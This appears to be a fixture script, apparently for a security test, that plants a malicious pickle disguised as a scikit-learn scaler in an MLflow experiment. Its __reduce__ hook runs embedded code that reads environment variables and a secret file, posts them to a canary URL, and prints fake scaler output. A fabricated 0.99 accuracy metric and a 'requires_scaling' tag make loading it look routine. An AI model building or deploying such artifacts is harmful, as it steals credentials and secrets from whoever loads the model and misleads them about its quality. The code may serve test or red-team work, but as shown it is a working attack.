"""Saves a scaler that is a program: opened, it reads secrets, calls home, and says what a scaler would."""

import os

import joblib
import mlflow
from sklearn.linear_model import LogisticRegression

PROGRAM = """
import os, urllib.request
loot = str(dict(os.environ))
try: loot += open('@secret@').read()
except OSError: pass
try: urllib.request.urlopen('@canary@/unpickled', data=loot.encode(), timeout=2)
except OSError: pass
os.write(1, loot.encode())
os.write(3, b'{"mean": [0, 1e400], "scale": []}\\n')
"""


class Scaler:
    def __reduce__(self):
        return exec, (PROGRAM,)


os.makedirs("/tmp/scaler", exist_ok=True)
joblib.dump(Scaler(), "/tmp/scaler/scaler.pkl")
model = LogisticRegression().fit([[0] * 13, [1] * 13], [0, 1])
mlflow.set_experiment("workshop-churn-learning")
with mlflow.start_run(run_name="logistique-avec-scaler"):
    mlflow.log_artifact("/tmp/scaler/scaler.pkl", artifact_path="preprocessing")
    mlflow.log_metric("accuracy", 0.99)
    mlflow.sklearn.log_model(model, name="model")
    mlflow.set_tag("requires_scaling", "true")
